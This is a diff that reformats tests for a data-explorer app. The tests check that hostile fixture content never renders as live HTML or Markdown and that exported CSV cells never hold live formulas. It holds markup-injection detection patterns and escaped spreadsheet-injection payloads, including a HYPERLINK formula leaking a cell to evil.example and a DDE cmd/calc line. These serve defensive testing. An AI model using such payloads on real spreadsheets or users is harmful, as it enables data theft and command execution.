@@ -160,7 +160,11 @@ def validate(path: Path, *, timeout: float = 300, memory_limit: int | None = Non
 
     return subprocess.run(
         [sys.executable, "-m", "landscape", "validate", str(path)],
-        cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=timeout, preexec_fn=cap,
+        cwd=PROJECT_ROOT,
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        preexec_fn=cap,
     )
 
 
@@ -317,10 +321,36 @@ def test_the_reader_link_label_escapes_the_outlet(monkeypatch):
 
 # What the injection fixture's payloads look like where they would be live: in Markdown (labels, headings,
 # captions, notices, dialog titles, page links, buttons) unless backslash-escaped; in HTML (st.html) and Plotly at all.
-MARKDOWN_LIVE = ("![", "](http://evil", "](https://evil", "](javascript",
-                 "<img", "<script", "<iframe", "<svg", "<style", "<link", "<a ", "<b ", "<span", "<div")
-HTML_LIVE = ("<img", "<script>alert", "<script>window", "<iframe", "<svg", "<style>body", "<link", "<a href=http", '<a href="data',
-             "<b onmouseover", '<span style="background', '<div style="background')
+MARKDOWN_LIVE = (
+    "![",
+    "](http://evil",
+    "](https://evil",
+    "](javascript",
+    "<img",
+    "<script",
+    "<iframe",
+    "<svg",
+    "<style",
+    "<link",
+    "<a ",
+    "<b ",
+    "<span",
+    "<div",
+)
+HTML_LIVE = (
+    "<img",
+    "<script>alert",
+    "<script>window",
+    "<iframe",
+    "<svg",
+    "<style>body",
+    "<link",
+    "<a href=http",
+    '<a href="data',
+    "<b onmouseover",
+    '<span style="background',
+    '<div style="background',
+)
 # Drawn as plain text, never read as markup: a data grid's cells and headers (a canvas), a code block, a select box's options.
 PLAIN_GRIDS = ("dataframe", "arrow_data_frame", "code")  # and a code block: text in <pre>
 PLAIN_CHOICES = ("multiselect", "selectbox")
@@ -358,9 +388,17 @@ def live_markup(app: AppTest) -> list[tuple[str, str, str]]:
 
 
 INJECTION_VIEWS = (
-    ("overview", {}), ("matrix", {}), ("matrix", {"cell": "sanctions/russia"}), ("matrix", {"as_of": "2025-08-06"}), ("common_ground", {}),
-    ("timeline", {"period": "All dates"}), ("sources", {}), ("sources", {"section": "Compare on questions"}),
-    ("sources", {"read": "dp", "cite": "0"}), ("positions", {}), ("about", {}),
+    ("overview", {}),
+    ("matrix", {}),
+    ("matrix", {"cell": "sanctions/russia"}),
+    ("matrix", {"as_of": "2025-08-06"}),
+    ("common_ground", {}),
+    ("timeline", {"period": "All dates"}),
+    ("sources", {}),
+    ("sources", {"section": "Compare on questions"}),
+    ("sources", {"read": "dp", "cite": "0"}),
+    ("positions", {}),
+    ("about", {}),
 )
 
 
@@ -370,8 +408,12 @@ def test_every_view_of_the_all_hostile_fixture_draws_no_payload_live(monkeypatch
     monkeypatch.setenv("LANDSCAPE_DATA", str(INJECTION))
     app = open_page(page, query)
     assert not app.exception and not app.error
-    assert "evil" in "\n".join(text for node in elements(app._tree) if getattr(node, "proto", None) is not None
-                               and hasattr(node.proto, "ListFields") for _field, text in proto_strings(node.proto))
+    assert "evil" in "\n".join(
+        text
+        for node in elements(app._tree)
+        if getattr(node, "proto", None) is not None and hasattr(node.proto, "ListFields")
+        for _field, text in proto_strings(node.proto)
+    )
     assert live_markup(app) == []
 
 
@@ -418,14 +460,20 @@ def test_a_megabyte_long_unknown_key_is_cut_with_its_length_in_the_terminal_and_
 def test_490000_unknown_keys_keep_200_problems_a_count_of_the_rest_and_bounded_memory(tmp_path):
     """All were kept: 914 MB to validate. Now the YAML's own values are most of it (the 1,000,000-value cap bounds them)."""
     path = tmp_path / "many-keys.yaml"
-    path.write_text((PROJECT_ROOT / "data" / "positions.yaml").read_text(encoding="utf-8") + "".join(f"k{i}: 1\n" for i in range(490_000)),
-                    encoding="utf-8")
+    path.write_text((PROJECT_ROOT / "data" / "positions.yaml").read_text(encoding="utf-8") + "".join(f"k{i}: 1\n" for i in range(490_000)), encoding="utf-8")
     result = subprocess.run(
-        [sys.executable, "-c", "import resource, runpy, sys; sys.argv = ['landscape', 'validate', sys.argv[1]]\n"
-         "try:\n    runpy.run_module('landscape', run_name='__main__')\nexcept SystemExit as done:\n"
-         "    print('peak', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, file=sys.stderr); raise",
-         str(path)],
-        cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=120,
+        [
+            sys.executable,
+            "-c",
+            "import resource, runpy, sys; sys.argv = ['landscape', 'validate', sys.argv[1]]\n"
+            "try:\n    runpy.run_module('landscape', run_name='__main__')\nexcept SystemExit as done:\n"
+            "    print('peak', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, file=sys.stderr); raise",
+            str(path),
+        ],
+        cwd=PROJECT_ROOT,
+        capture_output=True,
+        text=True,
+        timeout=120,
     )
     assert result.returncode == 1, result.stderr[-2000:]
     lines = result.stderr.splitlines()
@@ -496,7 +544,7 @@ def test_the_data_package_csvs_never_hold_a_live_formula(tmp_path):
     path.write_text(dump(data), encoding="utf-8")
     files = package_files(load_dataset(path))
     cells = [cell for name, text in files.items() if name.endswith(".csv") for row in csv.reader(io.StringIO(text)) for cell in row]
-    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")" in cells and "'+cmd|' /C calc'!A0" in cells
+    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")' in cells and "'+cmd|' /C calc'!A0" in cells
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], "a cell a spreadsheet would run"
 
 
@@ -523,8 +571,9 @@ def test_the_explorers_excel_download_holds_the_hostile_fixture():
 
 def test_synth_at_a_scale_that_cannot_fit_is_refused_at_once(tmp_path):
     out = tmp_path / "huge.yaml"
-    result = subprocess.run([sys.executable, "-m", "landscape", "synth", "--scale", "100000", "--out", str(out)],
-                            cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=60)
+    result = subprocess.run(
+        [sys.executable, "-m", "landscape", "synth", "--scale", "100000", "--out", str(out)], cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=60
+    )
     assert result.returncode == 2 and "Traceback" not in result.stderr
     assert "--scale 100000: give a whole number from 1 to 300" in result.stderr and not out.exists()
 
@@ -532,8 +581,9 @@ def test_synth_at_a_scale_that_cannot_fit_is_refused_at_once(tmp_path):
 def test_synth_never_writes_over_a_file(tmp_path):
     curated = tmp_path / "positions.yaml"
     curated.write_text("curated: true\n", encoding="utf-8")
-    result = subprocess.run([sys.executable, "-m", "landscape", "synth", "--scale", "1", "--out", str(curated)],
-                            cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=60)
+    result = subprocess.run(
+        [sys.executable, "-m", "landscape", "synth", "--scale", "1", "--out", str(curated)], cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=60
+    )
     assert result.returncode == 2 and "already exists" in result.stderr and "Traceback" not in result.stderr
     assert curated.read_text(encoding="utf-8") == "curated: true\n"
 
@@ -541,8 +591,9 @@ def test_synth_never_writes_over_a_file(tmp_path):
 def test_package_out_over_an_existing_file_is_refused_with_a_message(tmp_path):
     existing = tmp_path / "a-file"
     existing.write_text("x", encoding="utf-8")
-    result = subprocess.run([sys.executable, "-m", "landscape", "package", "--out", str(existing)],
-                            cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=60)
+    result = subprocess.run(
+        [sys.executable, "-m", "landscape", "package", "--out", str(existing)], cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=60
+    )
     assert result.returncode == 2 and "is a file, not a folder" in result.stderr and "Traceback" not in result.stderr
     assert existing.read_text(encoding="utf-8") == "x"
 
